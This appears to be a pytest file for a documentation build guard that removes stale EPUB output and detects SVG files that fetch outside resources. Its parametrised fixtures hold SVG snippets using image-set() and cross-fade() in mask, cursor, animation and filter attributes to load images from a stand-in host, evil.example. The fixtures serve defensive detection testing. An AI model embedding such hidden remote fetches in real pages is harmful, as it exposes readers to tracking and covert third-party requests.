    book = tmp_path / "51suanli-kb.epub"
    book.write_bytes(b"PK")
    guard.check_book_pages(types.SimpleNamespace(outdir=str(tmp_path)))
    assert not book.exists()
    (tmp_path / "_static" / "calc.css").write_text("p{color:red}\n", encoding="utf-8")
    book.write_bytes(b"PK")
    guard.check_book_pages(types.SimpleNamespace(outdir=str(tmp_path)))
    assert book.exists()


@pytest.mark.parametrize(
    "body",
    [
        "<rect mask=\"image-set('https://evil.example/x.png' 1x)\"/>",
        "<rect cursor=\"image-set('https://evil.example/c.png' 1x), auto\"/>",
        '<rect><set attributeName="mask" to="image-set(\'https://evil.example/x.png\' 1x)"/></rect>',
        '<rect filter="cross-fade(url(a.png), url(https://evil.example/b.png))"/>',
    ],
)
def test_an_image_set_in_any_svg_attribute_is_found(tmp_path, body):
    """review 22: image-set() and cross-fade() fetch in mask=, cursor=, an animation's to=."""
    svg = tmp_path / "p.svg"
    svg.write_text(f'<svg xmlns="http://www.w3.org/2000/svg">{body}</svg>', encoding="utf-8")
    assert guard.check_file(svg, page=False)
